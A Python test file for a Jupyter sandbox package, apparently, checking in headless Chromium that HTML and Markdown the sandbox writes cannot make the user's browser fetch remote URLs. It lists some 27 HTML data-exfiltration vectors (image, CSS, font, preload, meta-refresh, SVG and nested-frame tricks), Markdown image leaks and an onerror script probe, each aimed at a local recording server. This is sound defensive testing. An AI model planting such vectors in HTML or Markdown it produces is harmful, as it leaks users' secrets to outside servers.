"""What the sandbox writes must not make the user's browser fetch anything.

The sandbox has no network, but the user's browser has: HTML a sandbox kernel displays (shown in
an ``<iframe sandbox="">``, which stops scripts, not fetches) and Markdown in the workspace (a
notebook's Markdown cells in ``%ws cat`` and the FileBrowser preview, a SKILL.md in ``%ws
skill``) loaded remote images, style sheets and fonts, so a URL carrying a secret the sandbox read
reached any server. Each replay renders what the user sees in headless Chromium against a
127.0.0.1 server, waits, and asserts that the server saw no request — for every vector below; a
control renders the same markup the way it was drawn before (a sandboxed frame without a content
security policy, Markdown images as ``<img>``) and asserts that the server saw it.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from ws_jupyter import LocalFilesystem, LocalSandbox

from ..helpers import write
from .browser import RecordingServer, browser_unavailable, chromium, render

pytestmark = [pytest.mark.browser, pytest.mark.slow]
_why_not = browser_unavailable()
if _why_not:
    pytestmark.append(pytest.mark.skip(reason=_why_not))

SECRET = "s3cr3t-token"
#: A 1x1 PNG: what legitimate sandbox HTML (a DataFrame's styling, a chart) may still show.
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC"
)


def html_vectors(url: str) -> dict[str, str]:
    """Every way HTML can make a browser fetch on its own, each to its own path."""
    u = f"{url}/{{}}?k={SECRET}"
    return {
        "img": f'<img src="{u.format("img")}">',
        "srcset": f'<img srcset="{u.format("srcset")} 1x">',
        "picture": f'<picture><source srcset="{u.format("picture")}"><img alt=p></picture>',
        "style-attr": f'<div style="width:9px;height:9px;background:url({u.format("style-attr")})"></div>',
        "style-element": f'<style>.bg{{background-image:url("{u.format("style-element")}")}}</style><div class=bg>b</div>',
        "import": f'<style>@import url("{u.format("import")}");</style>',
        "font-face": f'<style>@font-face{{font-family:f;src:url("{u.format("font")}")}}.f{{font-family:f}}</style><p class=f>f</p>',
        "link-stylesheet": f'<link rel="stylesheet" href="{u.format("link-css")}">',
        "link-preload": f'<link rel="preload" as="image" href="{u.format("preload")}">',
        "link-prefetch": f'<link rel="prefetch" href="{u.format("prefetch")}">',
        "link-modulepreload": f'<link rel="modulepreload" href="{u.format("modulepreload")}">',
        "base": f'<base href="{url}/base/"><img src="relative.png?k={SECRET}">',
        "table-background": f'<table background="{u.format("table-bg")}"><tr><td>t</td></tr></table>',
        "body-background": f'<body background="{u.format("body-bg")}">',
        "svg-image": f'<svg width=9 height=9><image href="{u.format("svg-image")}" width=9 height=9 /></svg>',
        "svg-feimage": f'<svg width=9 height=9><filter id=f><feImage href="{u.format("feimage")}"/></filter>'
        '<rect filter="url(#f)" width=9 height=9 /></svg>',
        "meta-refresh": f'<meta http-equiv="refresh" content="0; url={u.format("refresh")}">',
        "video-poster": f'<video poster="{u.format("poster")}" src="{u.format("video")}"></video>',
        "audio": f'<audio autoplay src="{u.format("audio")}"></audio>',
        "input-image": f'<input type="image" src="{u.format("input-image")}">',
        "object": f'<object data="{u.format("object")}"></object>',
        "embed": f'<embed src="{u.format("embed")}">',
        "nested-frame": f'<iframe src="{u.format("iframe")}"></iframe>',
        "nested-srcdoc": f'<iframe srcdoc="<img src={u.format("nested-srcdoc")}>"></iframe>',
        "script-src": f'<script src="{u.format("script")}"></script>',
        "css-cursor": f'<div style="cursor:url({u.format("cursor")}),auto;width:99px;height:99px"></div>',
        "list-style": f'<ul style="list-style-image:url({u.format("list")})"><li>l</li></ul>',
    }


#: The HTML a sandbox kernel displays: every vector, plus legitimate content that must still show.
KERNEL_CODE = """
from IPython.display import HTML, display
display(HTML({markup!r}))
"""


@pytest.fixture(scope="module")
def server() -> Iterator[RecordingServer]:
    with RecordingServer() as s:
        yield s


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as b:
        yield b


def _frames(page: Any) -> list[Any]:
    """The frames the page itself holds (the sandboxed output's), not the ones inside them."""
    return [f for f in page.frames if f.parent_frame == page.main_frame]


def test_sandbox_html_fetches_nothing(tmp_path: Path, server: RecordingServer, browser: Any) -> None:
    from ws_jupyter.jupyter.views.kernels import ExecutionView

    vectors = html_vectors(server.url)
    legit = (
        '<p id="shown">legitimate table</p><table><tr><td style="color: #123456">1</td></tr></table>'
        f'<img id="inline" src="data:image/png;base64,{base64.b64encode(PNG).decode()}">'
    )
    sb = LocalSandbox(working_directory=str(tmp_path / "wd"))
    try:
        r = sb.kernels.execute(KERNEL_CODE.format(markup=legit + "".join(vectors.values())), timeout=120)
    finally:
        sb.destroy()
    assert r.ok, r
    (bundle,) = r.display
    drawn = {
        # what %%ws py and a displayed r.result put in the notebook (and an export of it keeps)
        "notebook output": bundle._repr_mimebundle_()[0]["text/html"],
        # what KernelActivity and a displayed ExecutionResult show
        "execution view": ExecutionView(r).html(),
    }
    for where, html in drawn.items():
        server.clear()
        page = render(browser, html)
        assert server.requests == [], f"{where}: the browser fetched {server.requests}"
        (frame,) = _frames(page)  # the legitimate part still renders inside the frame
        assert frame.locator("#shown").inner_text() == "legitimate table"
        assert frame.evaluate("document.getElementById('inline').naturalWidth") == 1
        page.close()

    # Control: the same markup in the frame as it was drawn before (sandboxed, no policy).
    import html as html_lib

    server.clear()
    page = render(
        browser, f'<iframe sandbox="" srcdoc="{html_lib.escape(bundle.html, quote=True)}"></iframe>', settle=3
    )
    page.close()
    fetched = {path.split("?")[0].strip("/") for path in server.requests}
    assert {"img", "srcset", "style-attr", "import", "link-css", "base/relative.png", "svg-image",
            "table-bg", "font", "nested-srcdoc"} <= fetched, fetched  # fmt: skip
    assert all(SECRET in path for path in server.requests)


def _markdown_sources(url: str) -> str:
    return "\n\n".join(
        [
            "# Results",
            f"![chart]({url}/md-inline?k={SECRET})",
            f'![ref][logo]\n\n[logo]: {url}/md-reference?k={SECRET} "title"',
            f"[![badge]({url}/md-badge?k={SECRET})](https://example.org)",
            f"<img src='{url}/md-raw-html?k={SECRET}'>",
            "<img src=x onerror='window.__ran = 1'>",
            f"<{url}/md-autolink?k={SECRET}>",
            "![local](figure.png)",
        ]
    )


def test_workspace_markdown_fetches_nothing(tmp_path: Path, server: RecordingServer, browser: Any) -> None:
    from ws_jupyter.jupyter.files import load_file_view
    from ws_jupyter.jupyter.views.skills import SkillView
    from ws_jupyter.skills.model import Skill

    source = _markdown_sources(server.url)
    cells = [{"cell_type": "markdown", "id": "m", "metadata": {}, "source": source}]
    write(
        tmp_path,
        "report.ipynb",
        json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}),
    )
    view = load_file_view(LocalFilesystem(tmp_path), "report.ipynb")
    skill = Skill("report", f"![d]({server.url}/md-description?k={SECRET})", source, "skills/report")

    def skill_html() -> str:
        bundle = SkillView(skill)._repr_mimebundle_()
        assert "text/markdown" not in bundle  # JupyterLab renders a session's Markdown unsanitised
        return str(bundle["text/html"])

    drawn = {
        "%ws cat / FileBrowser preview": lambda: view._repr_mimebundle_()["text/html"],
        "%ws skill": skill_html,
    }
    for where, draw in drawn.items():
        server.clear()
        page = render(browser, draw())
        assert server.requests == [], f"{where}: the browser fetched {server.requests}"
        assert page.evaluate("window.__ran") is None, f"{where}: the Markdown's HTML ran"
        # each remote image is a link the user may follow, showing its alt text
        links = page.locator("a").evaluate_all("els => els.map(e => [e.textContent, e.href])")
        assert ["image: chart", f"{server.url}/md-inline?k={SECRET}"] in links, (where, links)
        assert ["image: ref", f"{server.url}/md-reference?k={SECRET}"] in links, (where, links)
        assert page.locator("img").count() == 0
        page.close()

    # Control: markdown-it's own rendering of the same cell (what was shown before).
    from markdown_it import MarkdownIt

    server.clear()
    render(browser, MarkdownIt("commonmark", {"html": False}).render(source), settle=3).close()
    assert {p.split("?")[0] for p in server.requests} >= {"/md-inline", "/md-reference", "/md-badge"}
